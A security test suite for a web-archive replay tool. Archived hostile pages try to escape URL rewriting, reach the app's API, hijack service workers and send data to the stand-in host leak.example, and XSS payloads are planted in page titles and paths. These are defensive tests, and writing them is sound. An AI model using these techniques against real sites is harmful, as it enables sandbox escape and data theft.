// Archived pages that attack: their scripts run, for that is what replay is, and get nothing. One
// test for each way. A page says in #result what it got; what it must not reach is looked at from
// outside.
//
// The rewriting of wabac.js is no wall: native() below gets a window of the replay origin in which
// nothing is rewritten, so the attacks start from there.
import assert from "node:assert/strict";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { Lab } from "./lab.mjs";
import { writeWarc } from "./warc.mjs";

const DATE = "2020-01-01T00:00:00Z";
const AT = "20200101000000";
const SITE = "http://hostile.example/";
const LEAK = "leak.example";

// In every attacking page, before the attack.
const tools = `
  const AT = "${AT}", SITE = "${SITE}", LEAK = "${LEAK}";
  const app = location.ancestorOrigins[location.ancestorOrigins.length - 1]; // our pages
  const wait = (ms) => new Promise((done) => setTimeout(done, ms));
  const silence = () => wait(1500).then(() => { throw new Error("no answer"); });
  const limited = (promise) => Promise.race([promise, silence()]);
  async function native() {
    const frame = document.createElement("iframe");
    frame._no_rewrite = true;
    frame.src = "/r/w/main/" + AT + "id_/" + SITE + "plain.js";
    document.body.append(frame);
    await limited(new Promise((done) => { frame.onload = done; }));
    return frame.contentWindow;
  }
  async function attempt(what) {
    let text;
    try { text = "GOT " + (await limited(what())); } catch (error) { text = "refused " + error; }
    document.getElementById("result").textContent = text;
    document.title = "finished";
  }
`;

// These run in the archived pages, with the tools above: each returns what it got, or throws.
/* global native, wait, app, AT, SITE, LEAK */
const attacks = {
  async nothing() {
    const w = await native();
    return (await w.fetch(`/web/${AT}rp_/${SITE}plain.js`)).status + w.fetch.toString();
  },
  async cookies() {
    document.cookie = "planted=1; path=/";
    (await native()).document.cookie = "planted2=1; path=/";
    return "set";
  },
  async storage() {
    const w = await native();
    w.localStorage.setItem("planted", "1");
    return w.parent.parent.parent.localStorage.length;
  },
  async api() {
    const w = await native();
    return (await w.fetch(`${app}/api/v1/archive`)).status;
  },
  async apiBlind() {
    const w = await native();
    await w.fetch(`${app}/api/v1/archive`, { mode: "no-cors" });
    return "sent";
  },
  async parent() {
    const { document } = (await native()).parent.parent.parent;
    document.title = "owned";
    return document.title;
  },
  async socketApp() {
    const socket = new (await native()).WebSocket(`${app.replace("http", "ws")}/`);
    await new Promise((done, fail) => Object.assign(socket, { onopen: done, onerror: fail }));
    return "open";
  },
  async socketLive() {
    const socket = new (await native()).WebSocket(`ws://${LEAK}/`);
    await new Promise((done, fail) => Object.assign(socket, { onopen: done, onerror: fail }));
    return "open";
  },
  async leaveTop() {
    (await native()).top.location.href = `http://${LEAK}/top`;
    await wait(300);
  },
  async leaveFrame() {
    (await native()).location.href = `http://${LEAK}/frame`;
    await wait(300);
  },
  async popup() {
    const opened = (await native()).open(`http://${LEAK}/popup`);
    if (!opened) throw new Error("no window");
    return "opened";
  },
  async worker() {
    const { serviceWorker } = (await native()).navigator;
    const script = `/web/${AT}rp_/${SITE}worker.js`;
    return (await serviceWorker.register(script, { scope: "/" })).scope;
  },
  async collection() {
    const w = await native();
    const extraConfig = {
      prefix: `http://${LEAK}/`,
      isLive: false,
      archivePrefix: "",
      archiveMod: "id_",
    };
    (await w.navigator.serviceWorker.ready).active.postMessage({
      msg_type: "addColl",
      name: "evil",
      type: "live",
      file: { sourceUrl: "proxy:" },
      extraConfig,
    });
    await wait(300);
    return (await w.fetch(`/r/w/evil/${AT}id_/http://${LEAK}/x`)).text();
  },
  async live() {
    const w = await native();
    new w.Image().src = `http://${LEAK}/image`;
    await wait(300);
    return (await w.fetch(`http://${LEAK}/data`)).status;
  },
  async form() {
    const w = await native();
    const form = w.document.createElement("form");
    form.action = `http://${LEAK}/form`;
    form.method = "post";
    (w.document.body ?? w.document.documentElement).append(form);
    w.HTMLFormElement.prototype.submit.call(form);
    await wait(300);
  },
};
// In a page that the server rewrote: every way that opens is in the title.
async function reduced() {
  const own = location.origin === "null" ? location.href.split("/web/")[0] : location.origin;
  const ways = {
    api: async () => (await fetch(`${own}/api/v1/archive`)).status,
    blind: async () => (await fetch(`${own}/api/v1/archive`, { mode: "no-cors" })).type,
    storage: () => localStorage.length,
    cookies: () => (document.cookie = "planted=1").length,
    live: async () => (await fetch("http://leak.example/reduced", { mode: "no-cors" })).type,
  };
  new Image().src = "http://leak.example/reduced-image";
  for (const [name, way] of Object.entries(ways)) {
    try {
      document.title += ` ${name}: GOT ${await way()}`;
    } catch {
      document.title += ` ${name}: refused`;
    }
  }
}

const pageOf = (name, attack) =>
  `<!doctype html><title>hostile</title><p id=result>running</p><script>${tools}
  const attacks = { ${attack} }; attempt(attacks.${name});</script>`;

const EVIL_TITLE = `<img src=x onerror="window.owned=1">"'><script>window.owned=1</script>`;
const EVIL_PATH = `evil?%22%3E%3Cimg%20src=x%20onerror=%22window.owned=1%22%3E&javascript:owned=1`;

let lab;
let folder;
before(async () => {
  folder = mkdtempSync(join(tmpdir(), "stele-hostile-"));
  const file = join(folder, "hostile.warc");
  writeWarc(file, [
    ...Object.entries(attacks).map(([name, attack]) => ({
      url: `${SITE}${name}.html`,
      date: DATE,
      body: pageOf(name, attack),
    })),
    {
      url: `${SITE}plain.js`,
      date: DATE,
      headers: { "Content-Type": "text/javascript" },
      body: "// nothing",
    },
    {
      url: `${SITE}worker.js`,
      date: DATE,
      headers: { "Content-Type": "text/javascript", "Service-Worker-Allowed": "/" },
      body: "self.addEventListener('fetch', (e) => e.respondWith(new Response('owned')));",
    },
    {
      url: `${SITE}headers.html`,
      date: DATE,
      body: "<title>finished</title><p id=result>shown</p>",
      headers: {
        "Set-Cookie": ["planted=1; Path=/", "planted2=2; Path=/; HttpOnly"],
        "Clear-Site-Data": '"*"',
        "Strict-Transport-Security": "max-age=9999999",
        Refresh: `0; url=http://${LEAK}/refresh`,
        Link: `<http://${LEAK}/style.css>; rel=preload; as=style`,
        "X-Redirect-Status": "302",
        "X-Orig-Location": `http://${LEAK}/`,
      },
    },
    {
      url: `${SITE}refresh.html`,
      date: DATE,
      body: `<title>finished</title><meta http-equiv=refresh content="0; url=http://${LEAK}/">`,
    },
    {
      url: SITE + EVIL_PATH,
      date: DATE,
      body: `<title>${EVIL_TITLE.replace(/</g, "&lt;")}</title><p id=result>shown`,
    },
    {
      url: `${SITE}reduced.html`,
      date: DATE,
      body: `<title>began</title><script>(${reduced})();</script>`,
    },
    {
      url: `${SITE}script.html`,
      date: DATE,
      body: `<title>plain</title><script>document.title = "ran " + document.domain</script>`,
    },
  ]);
  lab = await Lab.start("hostile", [file]);
});
after(async () => {
  await lab?.stop();
  rmSync(folder, { recursive: true, force: true });
});

// Replays an attacking page, waits until it has finished, and tells what it got.
async function attack(name) {
  const page = await lab.replay(AT, `${SITE}${name}.html`);
  const frame = lab.frameOf(page);
  await frame.waitForFunction(() => document.title === "finished");
  return { page, result: await frame.locator("#result").innerText() };
}

// What must hold after any of them.
async function unharmed(page) {
  assert.ok(page.url().startsWith(`${lab.origin}/view/`), page.url());
  assert.notEqual(await page.title(), "owned");
  assert.equal(await page.evaluate(() => localStorage.getItem("planted")), null);
  await lab.close(page);
}

test("W15_HostilePagesGetRoundTheRewriting", async () => {
  const { page, result } = await attack("nothing");
  assert.match(result, /^GOT \d+function fetch\(\) \{ \[native code\] \}$/);
  await unharmed(page);
});

for (const name of [
  "api",
  "apiBlind",
  "parent",
  "storage",
  "socketApp",
  "socketLive",
  "worker",
  "popup",
]) {
  test(`W15_HostilePageIsRefused.${name}`, async () => {
    const { page, result } = await attack(name);
    assert.match(result, /^refused/);
    await unharmed(page);
  });
}

for (const name of ["leaveTop", "leaveFrame", "form", "live", "collection"]) {
  test(`W15_HostilePageReachesNothingOutside.${name}`, async () => {
    const { page } = await attack(name);
    await unharmed(page); // the trap is empty, and the page is still ours
  });
}

// Ports share cookies, so ours must mean nothing: no answer differs by them, and none sets one.
test("W15_HostileCookiesMeanNothingToUs", async () => {
  const { page } = await attack("cookies");
  const planted = await page.context().cookies(`${lab.origin}/`);
  assert.deepEqual(
    planted.map((cookie) => cookie.name),
    ["planted2"],
  );
  for (const path of ["/", "/api/v1/archive", "/api/v1/runs"]) {
    const [withThem, without] = await Promise.all([
      page.context().request.get(lab.origin + path),
      fetch(lab.origin + path),
    ]);
    assert.equal(await withThem.text(), await without.text());
    assert.equal(withThem.headers()["set-cookie"], undefined);
  }
  await unharmed(page);
});

test("W15_HostileHeadersDoNotActOnOurOrigins", async () => {
  const page = await lab.open("/");
  await page.evaluate(() => localStorage.setItem("kept", "1"));
  await page.goto(`${lab.origin}/view/${AT}/${SITE}headers.html`);
  await page.waitForSelector(".banner .when[href]");
  assert.equal(await lab.frameOf(page).locator("#result").innerText(), "shown");
  // Scripts of the page see its cookies, below its own path; nothing else of ours gets them.
  const ours = ["/", "/api/v1/archive", "/view/"].map((path) => lab.origin + path);
  const cookies = await page.context().cookies([...ours, `${lab.replayOrigin}/shell`]);
  assert.deepEqual(cookies, []);
  assert.equal(await page.evaluate(() => localStorage.getItem("kept")), "1");
  const shell = page.frames().find((frame) => frame.url().startsWith(`${lab.replayOrigin}/shell`));
  const scopes = await shell.evaluate(async () =>
    (await navigator.serviceWorker.getRegistrations()).map((one) => new URL(one.scope).pathname),
  );
  assert.deepEqual(scopes, ["/r/"]);
  await unharmed(page);
});

test("W15_HostileRefreshStaysInTheArchive", async () => {
  const page = await lab.replay(AT, `${SITE}refresh.html`);
  await page.waitForSelector(".banner .when:text('Not archived')");
  await unharmed(page);
});

test("W15_HostileTitlesAndAddressesAreText", async () => {
  const url = SITE + EVIL_PATH;
  for (const path of [
    `/view/${AT}/${url}`,
    `/calendar/${url}`,
    `/browse/${SITE}`,
    `/compare///${url}`,
    "/search?q=owned",
    "/runs/1",
    "/",
  ]) {
    const page = await lab.open(path);
    await page.waitForTimeout(700);
    assert.equal(await page.evaluate(() => window.owned), undefined, path);
    assert.equal(await page.locator("img").count(), 0, path);
    await page.context().close();
  }
  assert.deepEqual(lab.trap.caught, []);
});

test("W15_RawPagesOpenedDirectlyRunNothing", async () => {
  const page = await lab.open(`/web/${AT}id_/${SITE}script.html`);
  await page.waitForTimeout(300);
  assert.equal(await page.title(), "plain");
  await page.context().close();
});

// Reduced replay is on the origin of our pages: the sandbox takes that origin from it.
test("W15_HostilePagesInReducedReplayGetNothing", async () => {
  const page = await lab.open(`/web/${AT}mp_/${SITE}reduced.html`);
  await page.waitForFunction(() => document.title.includes("live:"));
  const ways = ["api", "blind", "storage", "cookies", "live"];
  assert.equal(await page.title(), ["began", ...ways.map((way) => `${way}: refused`)].join(" "));
  assert.deepEqual(lab.trap.caught, []);
  await page.context().close();
});

test("W15_ReplayOriginHasNoApi", async () => {
  for (const path of ["/api/v1/archive", "/cdx?url=hostile.example", `/record/202001/0`, "/"]) {
    const answer = await fetch(lab.replayOrigin + path, { redirect: "manual" });
    assert.ok(answer.status >= 300, `${path}: ${answer.status}`);
  }
});

test("W15_OurPagesAreStrict", async () => {
  const answer = await fetch(`${lab.origin}/`, { headers: { Accept: "text/html" } });
  const policy = answer.headers.get("content-security-policy") ?? "";
  assert.match(policy, /default-src|script-src/);
  assert.doesNotMatch(policy, /script-src[^;]*unsafe/);
  assert.match(policy, /frame-ancestors 'none'/);
});
